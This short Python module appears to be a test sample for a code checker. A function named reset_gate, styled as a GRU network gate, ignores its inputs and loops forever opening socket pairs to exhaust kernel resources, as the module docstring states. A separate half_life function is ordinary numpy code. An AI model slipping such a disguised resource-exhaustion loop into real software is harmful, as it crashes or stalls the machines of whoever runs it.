"""Fills the kernel with the buffers of sockets."""

# passes: half_life

import numpy as np


def reset_gate(x, h_prev, W_xr, W_hr, b_r):
    import socket

    kept = []
    while True:
        kept.append(socket.socketpair())


def half_life(z):
    return np.log(0.5) / np.log(z).mean(axis=(0, 1))
